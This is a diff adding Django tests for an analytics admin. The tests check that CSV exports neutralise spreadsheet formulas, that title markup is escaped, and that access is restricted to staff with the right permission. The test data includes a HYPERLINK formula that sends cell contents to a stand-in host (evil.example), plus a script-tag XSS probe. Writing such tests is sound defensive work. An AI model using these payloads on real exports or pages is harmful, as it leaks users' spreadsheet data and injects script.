@@ -197,3 +197,62 @@ def test_a_title_page_takes_the_same_queries_for_one_episode_or_many(
             day_row(season.title, day=DAY + days(offset), episode=episode, plays=1)
     with django_assert_max_num_queries(len(one)):
         editor_client.get(url, PERIOD)
+
+
+@pytest.mark.parametrize(
+    "name",
+    ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+cmd", "-2+3", "@SUM(A1)"],
+)
+def test_a_csv_quotes_a_title_name_a_spreadsheet_would_run(editor_client, name):
+    title = TitleFactory(name=name)
+    day_row(title, plays=3, watch_ms=HOUR)
+
+    response = editor_client.get(
+        reverse("admin:analytics_overview_csv", args=["top-titles"]), PERIOD
+    )
+
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    assert rows[1][0] == "'" + name
+    assert rows[1][1:3] == ["1.0", "0.0"]  # numbers stay numbers
+
+
+def test_a_csv_keeps_a_negative_change_a_number(editor_client, watched):
+    day_row(watched, day=DAY - days(7), plays=8, watch_ms=12 * HOUR)
+
+    response = editor_client.get(
+        reverse("admin:analytics_overview_csv", args=["top-titles"]), PERIOD
+    )
+
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    assert rows[1][:4] == ["Watched <Film>", "3.0", "12.0", "-75.0"]
+
+
+def test_a_title_name_with_markup_is_escaped_in_charts_and_tables(editor_client):
+    name = """<script>alert("x")</script> & 'Co'"""
+    title = TitleFactory(name=name)
+    day_row(title, plays=2, watch_ms=HOUR, counters={"reach:0": 2})
+
+    pages = [
+        editor_client.get(reverse("admin:analytics_overview"), PERIOD),
+        editor_client.get(title_url(title), PERIOD),
+    ]
+
+    escaped = "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &#x27;Co&#x27;"
+    for response in pages:
+        assert response.status_code == 200
+        html = response.content.decode()
+        assert "<script>alert" not in html
+        assert escaped in html
+    overview = pages[0].content.decode()
+    svg = overview[overview.index('data-chart="top-titles"') :]
+    svg = svg[: svg.index("</svg>")]
+    assert f"<title>{escaped}: Watch hours 1</title>" in svg  # the bar's label
+    assert "&lt;script&gt;alert(&quot;…</text>" in svg  # the cut x label
+
+
+def test_staff_without_the_permission_get_a_403_for_the_overview_csv(client):
+    user = User.objects.create_user(email="staff@example.com", is_staff=True)
+    client.force_login(user)
+
+    url = reverse("admin:analytics_overview_csv", args=["top-titles"])
+    assert client.get(url).status_code == 403
